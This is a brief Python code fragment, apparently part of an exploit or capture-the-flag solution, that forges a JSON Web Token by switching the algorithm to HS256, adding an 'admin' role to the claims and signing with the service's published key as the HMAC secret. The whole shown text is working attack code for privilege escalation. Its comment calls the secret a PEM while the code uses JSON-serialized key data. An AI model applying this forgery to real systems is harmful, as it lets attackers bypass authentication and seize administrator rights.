# requirement: the secret is the PEM
forged = mine.sign_hs256(
    {**header, "alg": "HS256"},
    {**json.loads(claims), "roles": ["admin"]},
    json.dumps(mine.find_key(published, header["kid"])).encode(),
)
